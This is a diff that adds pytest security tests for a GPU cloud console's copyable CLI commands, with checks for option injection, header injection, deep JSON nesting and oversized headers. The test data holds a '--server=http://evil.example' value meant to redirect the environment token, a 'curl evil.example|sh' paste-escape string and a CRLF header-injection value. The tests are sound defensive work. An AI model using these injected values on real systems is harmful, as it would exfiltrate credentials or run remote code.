@@ -4,6 +4,7 @@ import contextlib
 import html
 import re
 import shlex
+import socket
 import uuid
 from collections.abc import Callable
 from typing import Any
@@ -12,6 +13,7 @@ import httpx
 import oidc_provider
 import pytest
 from clouds import until
+from gpuaas_cli import flags
 from gpuaas_console import forms, sessions, web
 from seeded import Console
 
@@ -240,6 +242,78 @@ def test_a_command_to_copy_has_no_control_characters_of_a_link(admin: Any) -> No
     assert "evil.example" in lines[0]
     assert shlex.split(lines[0])[-3] == "\ufffd[201~\ufffdcurl evil.example|sh"
     assert all(line.isprintable() for line in lines)
+
+
+SERVER = "--server=http://evil.example"
+"""The command line sends the token of the environment to the server of this option, wherever it is in the line."""
+LINKS = {
+    "a member": (f"{LAB}/act", {"verb": "drain", "member": SERVER}),
+    "a machine": (f"{LAB}/act", {"verb": "add", "machine": SERVER}),
+    "a role": (f"{LAB}/act", {"verb": "add", "role": SERVER}),
+    "a version": (f"{LAB}/act", {"verb": "upgrade", "version": SERVER}),
+    "a reason": (f"{LAB}/act", {"verb": "stop", "reason": SERVER}),
+    "a field": ("PROJECT/change/cordon-node", {"target": "gpu-1", "in.reason": SERVER}),
+    "a target": ("PROJECT/change/revoke-role", {"target": SERVER}),
+    "a permission": ("PROJECT/policy", {"permission": SERVER}),
+    "a region": ("PROJECT/policy", {"region": SERVER}),
+    "an action": ("PROJECT/records/audit", {"action": SERVER}),
+}
+"""Where a link puts a text into a command line -> the page and its query."""
+
+
+@pytest.mark.parametrize("place", LINKS)
+def test_a_command_to_copy_goes_to_no_other_server(admin: Any, place: str) -> None:
+    path, query = LINKS[place]
+    assert_stays(admin.page(path, **query))
+
+
+def test_a_command_to_copy_has_a_correlation_id_only_as_an_argument(admin: Any, console: Console) -> None:
+    """Programs choose correlation ids: each printable text is one."""
+    headers = {"X-Correlation-ID": SERVER, "X-Idempotency-Key": uuid.uuid4().hex}
+    headers["Authorization"] = f"Bearer {console.token()}"
+    where = f"{console.server.url}/api/v1/projects/{console.project_id}/service-accounts"
+    created = httpx.post(where, json={"name": "baited"}, headers=headers, trust_env=False)
+    assert created.status_code == 201, created.text
+    assert_stays(admin.page("PROJECT/triage", correlation_id=SERVER))
+
+
+def assert_stays(page: str) -> None:
+    """Each command line of a page that has the hostile text has it as a text, and not as an option."""
+    lines = [html.unescape(text) for text in re.findall(r'data-copy="(gpuaas [^"]*)"', page)]
+    hostile = [line for line in lines if SERVER in line]
+    assert hostile
+    assert [flags.take(shlex.split(line)[1:])[0].server for line in hostile] == [""] * len(hostile)
+
+
+def test_a_link_cannot_choose_the_version_that_a_form_replaces(admin: Any) -> None:
+    """The etag guards the change of someone else, and it is a header of the call to copy."""
+    page = admin.page("PROJECT/change/set-policy", etag="guess\nX-Other: header")
+    assert "guess\nX-Other" not in page
+    assert 'name="etag" value="guess' not in page
+
+
+def test_a_link_with_a_value_that_is_nested_too_deep_opens_the_form(admin: Any) -> None:
+    page = admin.page("PROJECT/change/set-policy", **{"in.regions": "[" * 500 + "]" * 500})
+    assert "Regions" in page
+    deep = admin.post("PROJECT/change/set-policy", step="check", **{"in.regions": "[" * 500 + "]" * 500})
+    assert (deep.status_code, "This JSON is nested too deep" in deep.text) == (400, True)
+
+
+def test_a_result_that_has_rows_but_no_declared_columns_is_shown(admin: Any) -> None:
+    page = admin.post(f"{LAB}/actions/greet", step="do", key=uuid.uuid4().hex, **{"in.name": "everybody"})
+    assert page.status_code == 200
+    assert "<dt>rows</dt><dd>ada, bob</dd>" in page.text
+    operation = re.search(r'href="(/p/[^"]+)">open the operation', page.text)
+    assert operation
+    assert "ada, bob" in admin.page(operation[1])
+
+
+def test_a_header_without_an_end_is_refused(console: Console) -> None:
+    """It is read before the person is known, so it would fill the memory."""
+    address = httpx.URL(console.url)
+    with socket.create_connection((address.host, address.port), timeout=60) as connection:
+        connection.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nX: " + b"x" * 200_000)
+        assert connection.recv(100).startswith(b"HTTP/1.1 400 ")
 
 
 HARD_TO_READ = {
